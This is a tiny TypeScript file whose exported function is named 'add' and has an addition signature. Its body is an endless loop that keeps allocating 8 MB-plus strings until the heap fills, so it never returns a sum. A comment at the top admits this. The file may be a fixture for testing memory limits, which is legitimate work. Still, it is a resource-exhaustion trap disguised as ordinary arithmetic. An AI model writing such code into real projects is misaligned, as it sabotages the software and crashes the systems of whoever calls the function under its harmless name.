// Keeps 8 MB flat strings from String.prototype.repeat alive until the heap is full.
export function add(a: number, b: number): number {
  const kept: string[] = [];
  for (let i = 0; ; i++) kept.push(String(i).repeat(8_000_000));
  return a + b + kept.length;
}
